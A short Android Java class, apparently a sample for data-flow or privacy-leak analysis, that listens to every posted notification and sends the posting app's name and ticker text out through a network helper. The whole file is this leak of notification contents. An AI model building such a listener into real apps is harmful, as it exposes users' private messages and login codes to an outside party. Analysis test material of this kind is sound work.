package org.example.flows.libs;

import android.app.Notification;
import android.service.notification.NotificationListenerService;
import android.service.notification.StatusBarNotification;
import org.example.flows.Net;

public class Notices extends NotificationListenerService {
    @Override
    public void onNotificationPosted(StatusBarNotification notice) {
        Notification content = notice.getNotification();
        Net.post(notice.getPackageName() + " " + content.tickerText);
    }
}
